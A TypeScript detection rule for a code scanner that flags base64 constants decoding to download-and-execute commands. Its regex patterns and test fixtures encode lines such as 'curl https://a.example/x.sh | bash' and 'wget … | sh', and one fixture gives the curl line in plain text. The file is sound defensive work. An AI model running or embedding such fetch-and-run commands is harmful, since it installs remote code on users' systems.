import { string } from "../match.ts";
import { defineRule } from "../rule.ts";

export default defineRule({
  id: "encoded-download-command",
  category: "obfuscated_code",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript", "shell", "data"],
  title: "a constant is a command in base64 that fetches what it runs",
  why: "Nobody who means well encodes such a command: it is there to be decoded and run where no reader looks.",
  fix: "Remove it.",
  references: ["ATT&CK T1027.010", "ATT&CK T1105"],
  match: string(/Y3VybC[AB]|N1cmwg|jdXJsI|d2dldC[AB]|dnZXQg|3Z2V0I/, {
    confirm:
      /^[\w+/=\s-]*(Y3VybC[AB]|N1cmwg|jdXJsI|d2dldC[AB]|dnZXQg|3Z2V0I)[\w+/=\s-]*(fCBiYXNo|wgYmFza|8IGJhc2|fCBzaA|fCBza|wgc2g|8IHNo|fGJhc2|x8YmFza|fHNo|gL2Jpbi|IC9iaW4v|AvYmluL|JiYgY2htb2|YgY2htb2|iAmJiBjaG1v|fCBweXRob2|fCBzdWRv|wgc3Vkby|8IHN1ZG)/,
  }),
  bad: [
    'blob = "Y3VybCBodHRwczovL2Eu" + "ZXhhbXBsZS94LnNoIHwgYmFzaA=="',
    { "run.sh": "x='d2dldCAtcU8tIGh0dHBzOi8vYS5leGFtcGxlL3ggfCBzaA=='\nprintf %s \"$x\"" },
  ],
  good: ['blob = "Y3VybCBpcyBhIHRvb2wgdG8gdHJhbnNmZXIgZGF0YQ=="', 'text = "curl https://a.example/x | bash"'],
});
